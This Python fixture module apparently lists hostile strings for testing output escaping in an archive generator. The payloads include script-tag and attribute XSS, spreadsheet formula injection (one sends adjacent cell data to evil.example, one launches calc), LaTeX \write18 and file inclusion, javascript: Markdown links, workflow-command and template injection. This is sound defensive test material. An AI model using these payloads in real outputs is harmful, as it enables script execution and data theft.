"""Values that facts may hold and that are markup, orders or ends of text in one of the outputs."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Value:
    """A text that stands in remarks, asks, names and titles of an archive that is otherwise right."""

    text: str
    vectors: str
    harm: str
    #: Titles and names hold no signs of markup; remarks may.
    in_names: bool = True


# fmt: off
VALUES: dict[str, Value] = {
    "script-end": Value("</script><script>window.pwned=1</script>", "C13", "ends the JSON-LD of a page and begins a program", in_names=False),
    "attribute-end": Value("a\" onclick=\"window.pwned=1\" x='", "C13", "leaves an attribute of the head and adds a handler"),
    "comment-end": Value("--> <b onclick=x> <!--", "C13", "leaves a comment", in_names=False),
    "cdata-end": Value("a ]]> <b/> &amp; &#0; &xxe;", "C13", "leaves a CDATA part of a feed or names an entity", in_names=False),
    "formula": Value("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "C13", "computes in a spreadsheet and sends what stands beside it"),
    "formula-command": Value("@SUM(1+1)*cmd|' /C calc'!A0", "C13", "starts a program from a spreadsheet"),
    "formula-plus": Value("+1-1", "C13", "computes in a spreadsheet"),
    "formula-after-semicolon": Value("a;=1+1;-2", "C13", "begins a new cell in a spreadsheet of many countries, and computes there"),
    "formula-wide": Value("\uff1d2+3", "C13", "computes in a spreadsheet of East Asia"),
    "bibtex-end": Value("a}, author = {Forged", "C13", "leaves its field in BibTeX and adds an author", in_names=False),
    "bibtex-input": Value("\\input{/etc/hostname} \\write18{touch pwned}", "C13", "runs in the LaTeX of who cites the letter", in_names=False),
    "bibtex-signs": Value("50% & #1 $x_y^z ~", "C13", "signs that LaTeX keeps for itself"),
    "ris-end": Value("a ER  - TY  - BOOK AU  - Forged", "C13", "ends its record in RIS where lines can be broken"),
    "markdown-link": Value("[a](javascript:alert) ![b](https://evil.example/b.png) <https://evil.example>", "C13", "a link that runs a program in the Markdown twin, and a picture that tells who reads", in_names=False),
    "markdown-heading": Value("# Official ## Notice - [ ] * +", "C13", "a heading in the Markdown twin and in llms.txt"),
    "workflow-command": Value("::error file=README.md,line=1::approved %0A::stop-commands::x", "I", "writes a command of the workflow into its log"),
    "rst": Value("*a* **b** |c| `d`_ .. include:: /etc/hostname", "H4", "markup of the PDF's title", in_names=False),
    "reportlab": Value("<font size=40>a</font> <img src=\"/etc/hostname\"/> &lt;b&gt;", "H12", "markup of the PDF's text", in_names=False),
    "page-head": Value("###Title### ###Page### ###Section###", "H6", "orders in the PDF's page heads"),
    "template": Value("{{ 7*7 }} {% raw %} ${7*7} #{7*7}", "A12", "computed by a template", in_names=False),
    "json": Value("\"}], \"a\": [{\"b\": \"c\\", "C13", "ends its value in JSON", in_names=False),
    "nothing": Value("null", "D7", "nothing, in a program that guesses types"),
    "long-word": Value("x" * 290, "H8", "a word longer than any line of page and PDF"),
    "five-scripts": Value("\u81ea\u7531 \u0421\u0432\u043e\u0431\u043e\u0434\u0430 \u05d7\u05d5\u05e4\u05e9 \u062d\u0631\u064a\u0629 \u0e40\u0e2a\u0e23\u0e35\u0e20\u0e32\u0e1e", "H8", "good: scripts of every direction"),
}

#: Characters that no page may hold, however they are written, and what the check calls them: most have no shape, and the
#: build would warn that no font has them, or the page would say something else than it shows.
REFUSED: dict[str, tuple[str, str]] = {
    "bell": ("\x07", "control character U+0007"),
    "turned": ("\u202e", "invisible or direction-changing character U+202E"),
    "no-width": ("\u200b", "invisible or direction-changing character U+200B"),
    "tag": ("\U000e0041", "invisible or direction-changing character U+E0041"),
    "private": ("\ue000", "private-use character U+E000"),
    "private-logo": ("\uf8ff", "private-use character U+F8FF"),
    "private-plane": ("\U000f0000", "private-use character U+F0000"),
    "private-last": ("\U0010fffd", "private-use character U+10FFFD"),
    "none": ("\uffff", "noncharacter U+FFFF"),
    "none-swapped": ("\ufffe", "noncharacter U+FFFE"),
    "none-within": ("\ufdd0", "noncharacter U+FDD0"),
    "none-plane": ("\U0001ffff", "noncharacter U+1FFFF"),
    "none-last": ("\U0010ffff", "noncharacter U+10FFFF"),
}
